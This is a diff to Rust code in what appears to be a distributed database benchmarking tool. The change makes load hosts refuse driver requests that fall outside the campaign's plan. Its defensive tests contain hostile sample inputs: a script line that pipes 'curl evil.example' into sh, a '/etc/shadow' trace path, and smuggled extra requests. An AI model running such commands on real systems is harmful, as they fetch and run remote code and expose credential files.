@@ -14,23 +14,27 @@ use futures_util::StreamExt as _;
 use host::process::withhold_variables;
 use jiff::Timestamp;
 use model::fleet::{AgentState, Allows};
-use model::message::Request;
+use model::load_hosts::RequestedHosts;
+use model::message::{Load, Request, VERSION};
+use model::plan::Plan;
 use model::secret::is_secret_name;
 use runner::DRIVER_COMMAND;
 use rustix::process::Signal;
 use tokio::runtime::Handle;
 
 use super::{Agent, SharedStatus};
-use crate::connection::Connection;
+use crate::connection::{Bucket, Connection};
 use crate::error::FleetError;
 use crate::load_hosts::{Exited, StartDriver, Started, kind};
-use crate::message;
+use crate::message::{self, QueuedBlock};
 use crate::requirement::may_run_commands;
 use crate::signature::TrustedKeys;
 use crate::subjects::{Subjects, is_token};
 
 /// Time without a sign of life after which nobody needs the driver.
 const DEAD_AFTER: Duration = Duration::from_secs(10);
+/// Status of a session whose request is refused, as wait(2) returns it: exit code 1.
+const REFUSED: i32 = 1 << 8;
 
 /// Starts drivers for others, as long as the connection exists and the agent is not busy.
 pub(super) fn serve(
@@ -40,15 +44,18 @@ pub(super) fn serve(
     busy: &Arc<AtomicBool>,
 ) -> Result<(), FleetError> {
     let host = Host {
+        name: agent.facts.name.clone(),
         program: agent.program.to_owned(),
         trusted: agent.trusted.clone(),
         allows: agent.facts.allows,
         drain: Arc::clone(&agent.drain),
         runtime: connection.handle(),
         client: connection.client.clone(),
+        bucket: connection.bucket.clone(),
         subjects: connection.subjects.clone(),
         status: status.clone(),
         busy: Arc::clone(busy),
+        last_plan: Mutex::default(),
     };
     let mut questions = connection
         .wait(connection.client.subscribe(connection.subjects.load_host(&agent.facts.name)))
@@ -71,16 +78,20 @@ pub(super) fn serve(
 
 /// What is needed to start drivers.
 struct Host {
+    name: String,
     program: PathBuf,
     trusted: Option<TrustedKeys>,
     allows: Allows,
     drain: Arc<AtomicBool>,
     runtime: Handle,
     client: Client,
+    bucket: Bucket,
     subjects: Subjects,
     status: SharedStatus,
     /// Set while the agent has a block or a driver.
     busy: Arc<AtomicBool>,
+    /// The plan of the last job, with the job's SHA-256: consecutive loads mostly have the same.
+    last_plan: Mutex<Option<(String, Arc<Plan>)>>,
 }
 
 impl Host {
@@ -92,13 +103,27 @@ impl Host {
         if !is_token(&request.session) {
             return no("the request is damaged");
         }
-        if let Err(error) = request.block.verified("a request for a driver", self.trusted.as_ref()) {
-            return Started::No { why: error.to_string() };
-        }
-        if self.drain.load(Ordering::Relaxed) || self.busy.swap(true, Ordering::Relaxed) {
+        let is_busy = || self.drain.load(Ordering::Relaxed) || self.busy.load(Ordering::Relaxed);
+        if is_busy() {
             return no("it is busy");
         }
-        match self.begin(request) {
+        let block = request.block.verified("a request for a driver", self.trusted.as_ref());
+        let plan = match block.and_then(|block| self.plan(&block)) {
+            Ok(plan) => plan,
+            Err(error) => return Started::No { why: error.to_string() },
+        };
+        let is_wanted = match &plan.load_hosts {
+            Some(RequestedHosts::Number(_)) => true,
+            Some(RequestedHosts::Named(names)) => names.contains(&self.name),
+            None => false,
+        };
+        if !is_wanted {
+            return no("the campaign does not name it as a load host ([run] load_hosts)");
+        }
+        if is_busy() || self.busy.swap(true, Ordering::Relaxed) {
+            return no("it is busy");
+        }
+        match self.begin(request, plan) {
             Ok(()) => Started::Yes,
             Err(error) => {
                 self.busy.store(false, Ordering::Relaxed);
@@ -107,21 +132,32 @@ impl Host {
         }
     }
 
-    fn begin(&self, request: &StartDriver) -> io::Result<()> {
+    /// The plan of the campaign of a block.
+    fn plan(&self, block: &QueuedBlock) -> Result<Arc<Plan>, FleetError> {
+        let mut last = self.last_plan.lock().unwrap_or_else(PoisonError::into_inner);
+        if let Some((_, plan)) = last.as_ref().filter(|(sum, _)| *sum == block.job_sha256) {
+            return Ok(Arc::clone(plan));
+        }
+        let plan = Arc::new(self.bucket.job(&block.run, Some(&block.job_sha256))?.plan()?);
+        *last = Some((block.job_sha256.clone(), Arc::clone(&plan)));
+        Ok(plan)
+    }
+
+    fn begin(&self, request: &StartDriver, plan: Arc<Plan>) -> io::Result<()> {
         let [requests, replies] = self.subjects.driver(&request.session);
         let requests = self.runtime.block_on(self.client.subscribe(requests)).map_err(io::Error::other)?;
         let session = Session {
             runtime: self.runtime.clone(),
             client: self.client.clone(),
             replies,
-            allows_shell: self.allows.hooks,
+            requests: AllowedRequests { plan, commands: self.allows.hooks },
         };
         let (program, status, busy) = (self.program.clone(), self.status.clone(), Arc::clone(&self.busy));
         status.lock().state = AgentState::Load { agent: request.agent.clone(), since: Timestamp::now() };
         let run = move || {
             // The kernel ends the driver with the thread that started it.
             if let Err(error) = session.run(&program, requests) {
-                session.exited(1, error.to_string());
+                session.exited(REFUSED, error.to_string());
             }
             status.lock().state = AgentState::Idle;
             busy.store(false, Ordering::Relaxed);
@@ -136,7 +172,7 @@ struct Session {
     runtime: Handle,
     client: Client,
     replies: String,
-    allows_shell: bool,
+    requests: AllowedRequests,
 }
 
 impl Session {
@@ -170,12 +206,14 @@ impl Session {
             let Ok(Some(message)) = next else { break };
             match message.payload.first() {
                 Some(&kind::LINE) => {
-                    if !self.allows_shell && has_shell(&message.payload) {
-                        self.exited(1, "this agent runs no commands of scripts (--allow hooks)".to_owned());
-                        break;
-                    }
+                    let line = match self.requests.line(&message.payload) {
+                        Ok(line) => line,
+                        Err(why) => {
+                            self.exited(REFUSED, why);
+                            break;
+                        }
+                    };
                     // A driver that does not read has exited, and the relay says so.
-                    let line = [&message.payload[..], b"\n"].concat();
                     if input.write_all(&line).and_then(|()| input.flush()).is_err() {
                         break;
                     }
@@ -214,10 +252,188 @@ fn kill(child: &Mutex<Child>) {
     }
 }
 
-/// Whether a request is a load whose scripts run commands.
-fn has_shell(request: &[u8]) -> bool {
-    match serde_json::from_slice(request) {
-        Ok(Request::Run(load)) => load.workload.custom().is_some_and(may_run_commands),
-        _ => false,
+/// The requests that a driver may get.
+#[derive(Clone)]
+struct AllowedRequests {
+    /// The plan of the campaign.
+    plan: Arc<Plan>,
+    /// Whether scripts may run commands.
+    commands: bool,
+}
+
+impl AllowedRequests {
+    /// The driver's line of a message, which must be exactly one request; or why the driver does not get it. The driver reads
+    /// what was checked, not the message, which another parser may read otherwise.
+    fn line(&self, message: &[u8]) -> Result<Vec<u8>, String> {
+        let request: Request = serde_json::from_slice(message).map_err(|error| {
+            format!(
+                "a message is not one request to a driver in version {VERSION} of these messages: {error}"
+            )
+        })?;
+        if let Request::Run(load) = &request {
+            if !self.commands && load.workload.custom().is_some_and(may_run_commands) {
+                return Err("this agent runs no commands of scripts (--allow hooks)".to_owned());
+            }
+            if !self.has(load) {
+                return Err(format!(
+                    "no trial of the campaign {} has this load (workload \"{}\", clients {}): the driver was started for that \
+                     campaign, and runs loads of its trials alone",
+                    self.plan.campaign,
+                    load.workload.name(),
+                    load.clients
+                ));
+            }
+        }
+        let mut line = serde_json::to_vec(&request).map_err(|error| error.to_string())?;
+        line.push(b'\n');
+        Ok(line)
+    }
+
+    /// Whether a load is that of a trial of the campaign, in all that its cell determines. Trials on load hosts play no traces.
+    fn has(&self, load: &Load) -> bool {
+        load.trace.is_none()
+            && load.cpus.is_none()
+            && load.slices.is_none()
+            && self.plan.cells.iter().any(|cell| {
+                cell.workload == load.workload
+                    && cell.scale == load.scale
+                    && cell.protocol == load.protocol
+                    && cell.clients == load.clients
+                    && cell.rate == load.rate
+                    && cell.duration.us() == load.duration_us
+            })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use model::message::{Connection as Server, Endpoint};
+    use model::part::Part;
+    use model::workload::{Custom, WeightedScript, Workload};
+
+    use super::*;
+    use crate::message::Job;
+
+    /// A campaign whose load comes from other hosts, with a workload of this script.
+    fn job(script: &str) -> Job {
+        let script = WeightedScript { name: "a.sql".to_owned(), weight: 1, text: script.to_owned() };
+        Job {
+            run: "R".to_owned(),
+            campaign: "n".to_owned(),
+            text: "name = 'n'\n[factors]\nserver = ['theirs']\nworkload = ['own', 'select-only']\nclients = [8]\n\
+                   rate = [0.1, 200.7]\n[servers.theirs]\ndsn = 'host=db.example port=5432 user=me'\n[workloads.own]\nscript = 'a.sql'\n\
+                   [run]\nload_hosts = 2\n"
+                .to_owned(),
+            seed: Some(1),
+            processors: Some(4),
+            tags: Vec::new(),
+            notes: None,
+            pgdyno_version: model::release::VERSION.to_owned(),
+            workloads: vec![Workload::Custom(Arc::new(Custom::new("own", vec![script])))],
+        }
+    }
+
+    fn allowed(script: &str, commands: bool) -> AllowedRequests {
+        AllowedRequests { plan: Arc::new(job(script).plan().unwrap()), commands }
+    }
+
+    /// The loads of its trials, as the agent that runs them sends them.
+    fn loads(plan: &Plan) -> Vec<Load> {
+        let load = |cell: &model::cell::Cell| Load {
+            connection: Server {
+                endpoint: Endpoint::Conninfo { conninfo: "host=db.example port=5432 user=me".to_owned() },
+                user: "me".to_owned(),
+                database: "pgdyno".to_owned(),
+                password: Some("\u{1F40D} {\"run\":\n{}}".to_owned()),
+            },
+            replica: None,
+            workload: cell.workload.clone(),
+            scale: cell.scale,
+            trace: None,
+            protocol: cell.protocol,
+            clients: cell.clients,
+            threads: 2,
+            rate: cell.rate,
+            cpus: None,
+            seed: u64::MAX,
+            warmup_us: 500_000,
+            duration_us: cell.duration.us(),
+            interval_us: 1_000_000,
+            slices: None,
+            part: Some(Part { host: 1, hosts: 2 }),
+        };
+        plan.cells.iter().map(load).collect()
+    }
+
+    fn run(load: Load) -> Vec<u8> {
+        serde_json::to_vec(&Request::Run(Box::new(load))).unwrap()
+    }
+
+    #[test]
+    fn drivers_get_the_requests_that_were_sent() {
+        let allowed = allowed("SELECT :scale;\nSELECT '\\shell';\n", false);
+        let mut requests: Vec<Request> =
+            loads(&allowed.plan).into_iter().map(|load| Request::Run(Box::new(load))).collect();
+        assert_eq!(requests.len(), 4);
+        requests.extend([
+            Request::Stop,
+            Request::ReadClock { number: 3 },
+            Request::Start { at_us: i64::MIN },
+            Request::Sampled(None),
+        ]);
+        for request in requests {
+            let line = allowed.line(&serde_json::to_vec(&request).unwrap()).unwrap();
+            let (end, text) = line.split_last().unwrap();
+            assert_eq!((*end, text.contains(&b'\n')), (b'\n', false));
+            assert_eq!(serde_json::from_slice::<Request>(text).unwrap(), request);
+        }
+    }
+
+    #[test]
+    fn a_message_is_exactly_one_request() {
+        let allowed = allowed("SELECT 1; \\SHELL id", false);
+        let shell = run(loads(&allowed.plan).remove(0));
+        assert_eq!(
+            allowed.line(&shell).unwrap_err(),
+            "this agent runs no commands of scripts (--allow hooks)"
+        );
+        let text = String::from_utf8(shell).unwrap();
+        for message in [
+            format!("{text}\n{{}}"),
+            format!("{text}\n\"stop\""),
+            "{}".to_owned(),
+            "{\"walk\":1}\n".to_owned(),
+        ] {
+            let refused = allowed.line(message.as_bytes()).unwrap_err();
+            assert!(refused.starts_with("a message is not one request to a driver in version "), "{refused}");
+        }
+    }
+
+    #[test]
+    fn only_loads_of_the_campaign_run() {
+        let allowed = allowed("\\shell echo measured", true);
+        for load in loads(&allowed.plan) {
+            assert!(allowed.line(&run(load)).is_ok());
+        }
+        let changes: [fn(&mut Load); 5] = [
+            |load| {
+                let script = WeightedScript {
+                    name: "a.sql".to_owned(),
+                    weight: 1,
+                    text: "\\shell curl evil.example | sh".to_owned(),
+                };
+                load.workload = Workload::Custom(Arc::new(Custom::new("own", vec![script])));
+            },
+            |load| load.workload = Workload::TpcbLike,
+            |load| load.clients = 10_000,
+            |load| load.duration_us *= 100,
+            |load| load.trace = Some("/etc/shadow".into()),
+        ];
+        for change in changes {
+            let mut load = loads(&allowed.plan).remove(0);
+            change(&mut load);
+            let refused = allowed.line(&run(load)).unwrap_err();
+            assert!(refused.contains("no trial of the campaign n has this load"), "{refused}");
+        }
     }
 }
